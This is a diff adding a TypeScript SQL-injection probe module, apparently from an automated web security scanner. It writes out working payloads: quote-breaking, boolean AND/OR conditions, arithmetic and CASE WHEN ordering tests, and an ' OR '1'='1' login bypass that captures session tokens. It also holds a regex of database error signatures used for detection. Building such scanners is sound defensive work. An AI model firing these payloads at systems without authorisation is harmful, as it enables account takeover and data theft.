@@ -1,0 +1,187 @@
+import { type InjectionPoint, isStable, nameOf, sendAt, textAt } from '../injection-points.ts'
+import { exchangesOf, type Probing, trialOn } from '../probing.ts'
+import { isSuccess, jsonOf, normalised, type Reply } from '../reply.ts'
+import { tokensOf } from '../session.ts'
+
+const ERRORS =
+  /SQLITE_ERROR|sqlite3?\.(?:Operational|Programming)Error|near "[^"]*": syntax error|unrecognized token: "|SQL syntax.{0,40}MySQL|You have an error in your SQL syntax|mysql_fetch|ER_PARSE_ERROR|PG::SyntaxError|psycopg2\.errors|pg_query\(\)|syntax error at or near "|unterminated quoted string|invalid input syntax for (?:type|integer)|ORA-\d{5}|Microsoft OLE DB|ODBC SQL Server|SqlException|Unclosed quotation mark|quoted string not properly terminated|SequelizeDatabaseError|QueryFailedError|sqlalchemy\.exc|PrismaClientKnownRequestError.*syntax/i
+
+/** Replaces each value by ones that only an SQL parser tells apart. */
+export async function probeSqlInjection(probing: Probing, points: readonly InjectionPoint[]): Promise<void> {
+  for (const point of points) await probePoint(probing, point)
+  await probeLogin(probing)
+}
+
+async function probePoint(probing: Probing, point: InjectionPoint): Promise<void> {
+  const base = await sendAt(probing, point, point.value ?? '')
+  const shown = (await byError(probing, point, base)) || (await byBoolean(probing, point, base)) || (await byArithmetic(probing, point, base)) || (await byOrdering(probing, point, base))
+  if (shown) return
+  const text = await sendAt(probing, point, `${textAt(point)}q`)
+  const isBlocked = base.status === 0 || base.status === 429
+  probing.trial('sqlInjection', trialOn(point.accepted.operation, { name: 'error, boolean, arithmetic', parameter: nameOf(point), saw: isBlocked ? 'blocked' : 'no-effect', effect: 'quotes and conditions made no difference', identity: point.accepted.session?.name ?? 'anonymous', baseline: base.exchange, control: text.exchange, attempts: [] }))
+}
+
+/** A quote gives a database error that two quotes do not; or odd and even numbers of quotes part failure from success. */
+async function byError(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
+  const value = textAt(point)
+  const one = await sendAt(probing, point, `${value}'`)
+  if (ERRORS.test(one.body) && !ERRORS.test(base.body)) {
+    const two = await sendAt(probing, point, `${value}''`)
+    const again = await sendAt(probing, point, `${value}'`)
+    const isRepeated = ERRORS.test(again.body)
+    return tell(probing, point, 'error', isRepeated, base, two, [one, again], 'a single quote gives an error of the database', {})
+  }
+  if (one.status < 500 || base.status >= 500) return false
+  const replies: Reply[] = [one]
+  for (const quotes of ["''", "'''", "''''"]) replies.push(await sendAt(probing, point, `${value}${quotes}`))
+  const failed = replies.map((reply) => reply.status >= 500)
+  if (failed.join() !== 'true,false,true,false') return false
+  return tell(probing, point, 'quotes', true, base, replies[1] ?? null, [one, replies[2] ?? one], 'odd numbers of quotes fail with 5xx, even ones do not', {})
+}
+
+interface Context {
+  readonly name: string
+  /** Value, condition (true or false) and a pair of numbers to write it with. */
+  readonly make: (value: string, condition: string) => string
+  /** An OR reaches rows that are not ours: only where nothing is written. */
+  readonly readsOnly: boolean
+}
+
+const CONTEXTS: readonly Context[] = [
+  { name: "'…'", make: (value, condition) => `${value}' AND ${condition} -- `, readsOnly: false },
+  { name: "'%…%'", make: (value, condition) => `${value}%' AND ${condition} -- `, readsOnly: false },
+  { name: 'number', make: (value, condition) => `${value} AND ${condition}`, readsOnly: false },
+  { name: "('…')", make: (value, condition) => `${value}') AND ${condition} -- `, readsOnly: false },
+  { name: '"…"', make: (value, condition) => `${value}" AND ${condition} -- `, readsOnly: false },
+  { name: "OR '…'", make: (_value, condition) => `zqx' OR ${condition} -- `, readsOnly: true },
+  { name: "OR ('…')", make: (_value, condition) => `zqx%') OR ${condition} -- `, readsOnly: true },
+  { name: 'OR number', make: (_value, condition) => `-99 OR ${condition}`, readsOnly: true },
+]
+
+async function byBoolean(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
+  if (!isSuccess(base) && base.status !== 404) return false
+  const value = textAt(point)
+  const isHinted = point.hints.has('sql-injection')
+  const isReading = point.accepted.operation.method === 'GET' || /search|query|filter|find|lookup/i.test(point.accepted.operation.path)
+  for (const context of CONTEXTS) {
+    if (context.readsOnly && !isReading) continue
+    if (!isHinted && context.name === '"…"') continue
+    const n = probing.values.number('condition')
+    const isTrue = context.make(value, `${n}=${n}`)
+    const isFalse = context.make(value, `${n}=${n + 1}`)
+    const yes = await sendAt(probing, point, isTrue)
+    if (!isSuccess(yes)) continue
+    const no = await sendAt(probing, point, isFalse)
+    if (same(yes, isTrue, no, isFalse)) continue
+    if (!context.readsOnly && !same(yes, isTrue, base, value)) continue
+    if (!(await isStable(probing, point))) return false
+    const m = probing.values.number('condition')
+    const yesAgain = await sendAt(probing, point, context.make(value, `${m}=${m}`))
+    const noAgain = await sendAt(probing, point, context.make(value, `${m}=${m + 7}`))
+    const broken = await sendAt(probing, point, context.make(value, `${m}=`))
+    const holds = same(yes, isTrue, yesAgain, context.make(value, `${m}=${m}`)) && same(no, isFalse, noAgain, context.make(value, `${m}=${m + 7}`)) && !same(yes, isTrue, broken, context.make(value, `${m}=`))
+    if (!holds) continue
+    return tell(probing, point, 'boolean', true, base, no, [yes, yesAgain, no, noAgain], `conditions inside the value decide the answer (${context.name}): true ones give ${yes.bytes} bytes, false ones ${no.bytes}, broken ones ${broken.status}`, { context: context.name })
+  }
+  return false
+}
+
+/** A sum in place of an id finds the same object, a sum that is one off does not. */
+async function byArithmetic(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
+  const value = textAt(point)
+  if (!/^\d{1,9}$/.test(value) || !isSuccess(base)) return false
+  const n = probing.values.number('sum')
+  const rightText = `${Number(value) + n}-${n}`
+  const right = await sendAt(probing, point, rightText)
+  if (!same(right, rightText, base, value)) return false
+  const wrongText = `${Number(value) + n}-${n + 1}`
+  const wrong = await sendAt(probing, point, wrongText)
+  const again = await sendAt(probing, point, `${Number(value) + n + 3}-${n + 3}`)
+  const letters = await sendAt(probing, point, `${value}q${n}`)
+  if (same(wrong, wrongText, base, value) || same(letters, `${value}q${n}`, base, value) || !same(again, '', base, '')) return false
+  return tell(probing, point, 'arithmetic', true, base, wrong, [right, again], `${rightText} is calculated: the answer is that for ${value}`, {})
+}
+
+/** A condition that chooses the order of a list. */
+async function byOrdering(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
+  if (!/^(?:sort|order|order_?by|sort_?by|column|dir|direction)$/i.test(point.place.name) || !isSuccess(base)) return false
+  const n = probing.values.number('order')
+  for (const column of ['id', 'name', '1']) {
+    const ask = (condition: string): Promise<Reply> => sendAt(probing, point, `(CASE WHEN ${condition} THEN ${column} ELSE -${column} END)`)
+    const yes = await ask(`${n}=${n}`)
+    const no = await ask(`${n}=${n + 1}`)
+    if (!isSuccess(yes) || !isSuccess(no) || normalised(yes.body) === normalised(no.body)) continue
+    const yesAgain = await ask(`${n + 2}=${n + 2}`)
+    const noAgain = await ask(`${n}=${n + 2}`)
+    if (normalised(yes.body) !== normalised(yesAgain.body) || normalised(no.body) !== normalised(noAgain.body)) continue
+    return tell(probing, point, 'ordering', true, base, no, [yes, yesAgain], 'a condition inside the value decides the order of the list', {})
+  }
+  return false
+}
+
+/** The login with a condition in place of a name. */
+async function probeLogin(probing: Probing): Promise<void> {
+  const { login, loginField } = probing.identities
+  if (login === null) return
+  const ask = async (name: string, password = 'Wrong-1-password'): Promise<Reply | null> => {
+    probing.client.takeNextAddress()
+    return probing.identities.sendLogin({ name, password }, { mayFail: true, identity: 'forged' })
+  }
+  const stranger = `${probing.values.nonce('stranger')}@example.com`
+  const plain = await ask(stranger)
+  if (plain === null) return
+  const operation = { ...login }
+  const parameter = `body ${loginField}`
+  const broken = await ask(`${stranger}'`)
+  for (const suffix of [' -- ', '/*', '']) {
+    const payload = (condition: string): string => (suffix === '' ? `${stranger}' OR ${condition} OR '1'='2` : `${stranger}' OR ${condition}${suffix}`)
+    const yes = await ask(payload("'1'='1'"))
+    if (yes === null || !isSuccess(yes) || (tokensOf(yes).access === null && Object.keys(tokensOf(yes).cookies).length === 0)) continue
+    const no = await ask(payload("'1'='2'"))
+    const again = await ask(payload("'2'='2'"))
+    if (no === null || again === null || isSuccess(no) || !isSuccess(again)) continue
+    for (const reply of [yes, again]) {
+      const token = tokensOf(reply).access
+      if (token !== null) probing.client.masking.add(token, '$STOLEN_TOKEN')
+    }
+    probing.trial('sqlInjection', trialOn(operation, { name: 'login', parameter, saw: 'effect', effect: 'a true condition in place of the name logs in without a password, a false one does not', identity: 'forged', baseline: plain.exchange, control: no.exchange, attempts: exchangesOf(yes, again), reproduced: { count: 2, of: 2 } }))
+    return
+  }
+  const even = broken !== null && (broken.status >= 500 || ERRORS.test(broken.body)) ? await ask(`${stranger}''`) : null
+  if (broken !== null && even !== null && ERRORS.test(broken.body) && !ERRORS.test(even.body)) {
+    const again = await ask(`${stranger}'`)
+    probing.trial('sqlInjection', trialOn(operation, { name: 'error', parameter, saw: 'effect', effect: 'a single quote in the name gives an error of the database', identity: 'forged', baseline: plain.exchange, control: even.exchange, attempts: exchangesOf(broken, again), reproduced: { count: 2, of: 2 } }))
+    return
+  }
+  const isBlocked = plain.status === 429 || plain.status === 0
+  probing.trial('sqlInjection', trialOn(operation, { name: 'login', parameter, saw: isBlocked ? 'blocked' : 'no-effect', effect: 'conditions in place of the name made no difference', identity: 'forged', baseline: plain.exchange, attempts: exchangesOf(broken) }))
+}
+
+function tell(probing: Probing, point: InjectionPoint, name: string, isRepeated: boolean, base: Reply, control: Reply | null, attempts: readonly Reply[], effect: string, details: Readonly<Record<string, string>>): boolean {
+  probing.trial('sqlInjection', trialOn(point.accepted.operation, {
+    name, parameter: nameOf(point), saw: isRepeated ? 'effect' : 'unclear', effect, identity: point.accepted.session?.name ?? 'anonymous', baseline: base.exchange, control: control?.exchange ?? null,
+    attempts: exchangesOf(...attempts), reproduced: { count: isRepeated ? 2 : 1, of: 2 }, details: { ...details, isHinted: point.hints.has('sql-injection') },
+  }))
+  return isRepeated
+}
+
+/** Same status and same content, leaving out what the answer repeats of the question. */
+function same(a: Reply, sentA: string, b: Reply, sentB: string): boolean {
+  return a.status === b.status && bare(a, sentA) === bare(b, sentB)
+}
+
+function bare(reply: Reply, sent: string): string {
+  let body = reply.body
+  for (const form of [sent, JSON.stringify(sent).slice(1, -1), encodeURIComponent(sent), sent.replaceAll("'", '&#39;'), sent.replaceAll("'", '&#x27;'), sent.trim()]) {
+    if (form.length >= 3) body = body.replaceAll(form, '~q~')
+  }
+  const value = jsonOf({ body })
+  return normalised(value === undefined ? body : JSON.stringify(withoutEcho(value)))
+}
+
+/** Fields that hold what was asked are no part of the answer. */
+function withoutEcho(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(withoutEcho)
+  if (typeof value !== 'object' || value === null) return value
+  return Object.fromEntries(Object.entries(value).filter(([name]) => !/^(?:query|q|search|term|filter|keyword|path|url|instance|detail|message)$/i.test(name)).map(([name, child]) => [name, withoutEcho(child)]))
+}
